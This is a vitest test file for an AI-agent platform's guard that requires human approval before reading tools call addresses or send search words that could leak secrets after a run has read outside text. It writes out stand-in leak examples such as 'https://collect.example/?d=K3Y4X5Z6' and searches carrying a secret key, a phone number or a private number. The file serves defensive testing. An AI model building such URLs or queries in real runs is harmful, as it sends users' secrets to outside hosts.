// What leaves with reading calls once a run has read text from outside.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { historyOf, toMessage, toSession } from '../../../../testing/conversations.ts';
import { openEvents } from '../../../../testing/event-client.ts';
import { createTestApp, type Person, type TestApp } from '../../../../testing/test-app.ts';
import { TEST_DATABASES } from '../../../../testing/test-databases.ts';
import { advanceUntil, until } from '../../../../testing/until.ts';
import { defineTool, type AnyTool } from '../../../../toolbox/tool.ts';
import { emailDomainCheck } from '../../../../toolbox/sources/security/email-domain.ts';
import { webSearch } from '../../../../toolbox/web/web-search.ts';
import { PLATFORM_TOOLS } from '../../../../toolbox/platform/index.ts';
import { fetchPage } from '../../../../toolbox/web/fetch-page.ts';

const FOUND = 'See https://news.example/a?id=7 and https://other.example/b. Order A1B2C3 has shipped.';

function createReaders(made: string[]): AnyTool[] {
  const answer = (tool: AnyTool): AnyTool => ({
    ...tool,
    call(args) {
      made.push(JSON.stringify(args));
      if (JSON.stringify(args).includes('broken.example')) return { error: 'failed', message: FOUND };
      return { data: { text: FOUND } };
    },
  });
  const echo = defineTool({
    name: 'echo',
    provider: 'TEST',
    category: 'test',
    icon: 'repeat',
    effect: 'read',
    title: { en: 'Echo', zh: '回声' },
    description: 'Says the same.',
    parameters: z.strictObject({ text: z.string() }),
    call: ({ text }) => ({ data: text }),
  });
  return [answer(webSearch), answer(fetchPage), answer(emailDomainCheck), echo, ...PLATFORM_TOOLS];
}

type Call = readonly [name: string, args: Readonly<Record<string, unknown>>];
const page = (url: string): Call => ['fetch_page', { url }];
const search = (query: string): Call => ['web_search', { query }];
const checkMail = (selector: string): Call => [
  'email_domain_check',
  { domain: 'site.example', dkim_selector: selector },
];

describe.each(TEST_DATABASES)('a run that has read text from outside on %s', (database) => {
  let app: TestApp;
  let member: Person;
  let made: string[];
  let agentId: string;
  beforeEach(async () => {
    made = [];
    app = await createTestApp({ database, builtinTools: createReaders(made) });
    member = await app.createMember();
    const payload = {
      name: 'Reader',
      model: 'scripted/one',
      instructions: 'The key is K3Y4X5Z6. Start at https://intranet.example/start.',
      tools: ['web-search', 'fetch-page', 'email-domain-check', 'echo', 'file-read', 'chat-history-search'],
    };
    agentId = (await app.call({ method: 'POST', url: '/agents/', payload }, member)).json<{ id: string }>()
      .id;
  });
  afterEach(() => app.close());

  /** The calls of each turn. */
  function play(turns: readonly (readonly Call[])[]): void {
    app.provider.otherwise(({ messages }) => {
      const asked = messages.slice(messages.findLastIndex(({ role }) => role === 'user'));
      const calls = turns[asked.filter(({ role }) => role === 'assistant').length];
      if (!calls) return { text: 'Done.' };
      return {
        toolCalls: calls.map(([name, args], index) => ({ name, arguments: args, callId: `c${index}` })),
      };
    });
  }

  /** The run asks for these calls, one after the other, until it has to wait. */
  const run = (calls: readonly Call[], context: object = {}) =>
    runTurns(
      calls.map((call) => [call]),
      context,
    );
  async function runTurns(turns: readonly (readonly Call[])[], context: object = {}) {
    play(turns);
    const content = 'What is new at site.example?';
    const reader = await openEvents(await app.listen(), {
      method: 'POST',
      path: `/agents/${agentId}/execute`,
      token: member.token,
      headers: { 'content-type': 'application/json' },
      payload: Buffer.from(JSON.stringify({ content, context })),
    });
    const isOver = until(
      () => reader.events.some(({ type }) => type === 'waiting' || type === 'complete'),
      'the run to wait or end',
    );
    await advanceUntil(app.clock, isOver);
    const [info] = reader.events;
    const runId = info?.type === 'info' ? info.run_id : '';
    const asked = reader.events.flatMap((event) => (event.type === 'approval_requested' ? [event] : []));
    const url = `/runs/${runId}/cancel`;
    await advanceUntil(app.clock, app.call({ method: 'POST', url }, member));
    await advanceUntil(app.clock, reader.ended);
    app.clock.jump(60_000);
    return { runId, events: reader.events, asked };
  }

  it('reads what it was given and what it has found, and searches with words, unasked [SB-07]', async () => {
    const calls = [
      page('https://somewhere.example/first?of=all'),
      page('https://news.example/a?id=7'),
      page('https://news.example/a?id=7#part'),
      page('https://other.example/'),
      page('http://site.example/'),
      page('https://intranet.example/start'),
      search('price of iphone15 and rtx4090 in 2026'),
      search('status of order A1B2C3'),
      search('今天的新闻 2026'),
      checkMail('selector1'),
    ];
    const { asked } = await run(calls);
    expect(asked).toEqual([]);
    expect(made).toHaveLength(calls.length);
  });

  it.each([
    ['another query', page('https://news.example/a?id=8')],
    ['a longer path', page('https://other.example/b/K3Y4X5Z6')],
    ['a name below a known one', page('https://K3Y4X5Z6.site.example/')],
    ['a name before the host', page('https://K3Y4X5Z6@site.example/')],
    ['another port', page('https://site.example:8443/')],
    ['a query at the root', page('https://site.example/?K3Y4X5Z6')],
    ['a name below a known domain', checkMail('k3y4x5z6')],
    ['a key', search('what is K3Y4X5Z6')],
    ['a telephone number', search('who has 4915212345678')],
    ['a mail address', search('ada@lovelace.example')],
    ['a long text', search('the person wrote to me in confidence '.repeat(4))],
  ])('asks before it reads an address or sends words with %s [SB-07]', async (_what, call) => {
    const { asked } = await run([page('https://somewhere.example/'), call]);
    expect(asked).toMatchObject([{ effect: 'read' }]);
    expect(asked[0]?.why).toMatch(/could carry away what the agent knows/);
    expect(made).toHaveLength(1);
  });

  it('does not take what it has put together itself for something found [SB-07]', async () => {
    const leak = 'https://news.example/?d=K3Y4X5Z6';
    const calls = [page('https://somewhere.example/'), ['echo', { text: leak }] as const, page(leak)];
    expect((await run(calls)).asked).toMatchObject([{ args: { url: leak } }]);
    const context = { messages: [{ role: 'assistant', content: `[Sign in](${leak})` }] };
    const calm = [page('https://somewhere.example/'), page(leak)];
    expect((await run(calm, context)).asked).toMatchObject([{ args: { url: leak } }]);
  });

  it('counts files, and what earlier runs of the conversation have read, as read [SB-07]', async () => {
    const leak = page('https://collect.example/?d=K3Y4X5Z6');
    const files = [{ name: 'a.txt', text: 'See https://listed.example/x.' }];
    expect((await run([page('https://listed.example/x'), leak], { files })).asked).toHaveLength(1);
    const session = { session_id: 'talk-1' };
    expect((await run([leak], { session_id: 'talk-2' })).asked).toEqual([]);
    await run([page('https://somewhere.example/')], session);
    const { asked } = await run([leak], { ...session, language: 'zh' });
    expect(asked[0]?.why).toContain('可能会带走');
    await run([page('no address')], { session_id: 'talk-3' });
    expect((await run([leak], { session_id: 'talk-3' })).asked).toEqual([]);
    await run([page('https://broken.example/')], { session_id: 'talk-4' });
    expect((await run([leak], { session_id: 'talk-4' })).asked).toHaveLength(1);
  });

  it('keeps what is in files and past conversations to itself, also once it has looked it up there [SB-07]', async () => {
    const text = 'My number is C7D8E9F1.';
    await historyOf(app, member).save(toSession('s1', [toMessage('m1', { content: text })]));
    const leak = search('who is C7D8E9F1');
    for (const [name, args] of [
      ['file_read', {}],
      ['chat_history_search', { words: 'number' }],
    ] as const) {
      const { events, asked } = await run([[name, args], leak], { files: [{ name: 'a.txt', text }] });
      expect(JSON.stringify(events)).toContain(text);
      expect(asked, name).toMatchObject([{ args: { query: 'who is C7D8E9F1' } }]);
    }
    expect(made).toEqual([]);
  });

  it('asks once it has read very many pages, also those of one turn [SB-07]', async () => {
    const many = (offset: number): Call[] =>
      Array.from({ length: 20 }, (_, index) => [
        'fetch_page',
        { url: 'https://news.example/a?id=7', offset: offset + index },
      ]);
    const { asked } = await runTurns([[page('https://a.example/')], many(0), many(20)]);
    expect(made).toHaveLength(30);
    expect(asked).toHaveLength(11);
  });

  it('in research waits for nobody: what is not found is refused with what to do instead [SB-07]', async () => {
    const calls = [
      search('news of the week'),
      page('https://news.example/a?id=7'),
      page('https://guessed.example/page'),
      search('details on K3Y4X5Z6'),
      search('other views on the news of the week'),
      page('https://other.example/b'),
    ];
    const { events, asked } = await run(calls, { mode: 'research' });
    expect(asked).toEqual([]);
    const outputs = events.flatMap((event) => (event.type === 'tool_output' ? [event] : []));
    expect(outputs.map(({ is_error: isError }) => isError)).toEqual([false, false, true, true, false, false]);
    expect(outputs[2]?.output).toContain('Read an address from a result, or search for the page');
  });

  it('repeated with new results reads nothing that a person would be asked about [SB-07]', async () => {
    const calls = [page('https://somewhere.example/'), page('https://collect.example/?d=K3Y4X5Z6')];
    const { runId } = await run(calls);
    made.length = 0;
    const url = `/runs/${runId}/replay`;
    const replay = await app.call({ method: 'POST', url, payload: { tools: 'live' } }, member);
    await advanceUntil(app.clock, app.server.runs.finished(member, replay.json<{ run_id: string }>().run_id));
    expect(made).toHaveLength(1);
  });

  it('repeated with recorded results asks before it reads, and says when an address could carry something away [SB-07]', async () => {
    const { runId } = await run([page('https://somewhere.example/')]);
    made.length = 0;
    const collect = page('https://collect.example/?d=K3Y4X5Z6');
    play([[page('https://somewhere.example/')], [page('https://other.example/'), collect]]);
    const payload = { tools: 'recorded', unrecorded: 'ask' };
    await app.call({ method: 'POST', url: `/runs/${runId}/replay`, payload }, member);
    const listWaiting = async (): Promise<{ why: string }[]> =>
      (await app.call({ url: '/api/approvals' }, member)).json().approvals;
    await advanceUntil(
      app.clock,
      until(async () => (await listWaiting()).length > 0, 'the questions'),
    );
    const reasons = (await listWaiting()).map(({ why }) => why).toSorted();
    expect(reasons).toEqual(['Not recorded. Call the tool now?', expect.stringContaining('This address')]);
    expect(made).toEqual([]);
  });

  it('what a repeat with new results held back is no result: a repeat of it asks [SB-07]', async () => {
    const collect = page('https://collect.example/?d=K3Y4X5Z6');
    const { runId } = await run([page('https://somewhere.example/'), collect]);
    const repeat = async (id: string, payload: object): Promise<string> =>
      (await app.call({ method: 'POST', url: `/runs/${id}/replay`, payload }, member)).json<{
        run_id: string;
      }>().run_id;
    const live = await repeat(runId, { tools: 'live' });
    await advanceUntil(app.clock, app.server.runs.finished(member, live));
    made.length = 0;
    const second = await repeat(live, { unrecorded: 'ask' });
    const statusOf = async (): Promise<string> =>
      (await app.call({ url: `/runs/${second}` }, member)).json<{ status: string }>().status;
    await advanceUntil(
      app.clock,
      until(async () => ['waiting', 'succeeded'].includes(await statusOf()), 'the repeat to wait or end'),
    );
    expect(await statusOf()).toBe('waiting');
    expect(made).toEqual([]);
  });
});
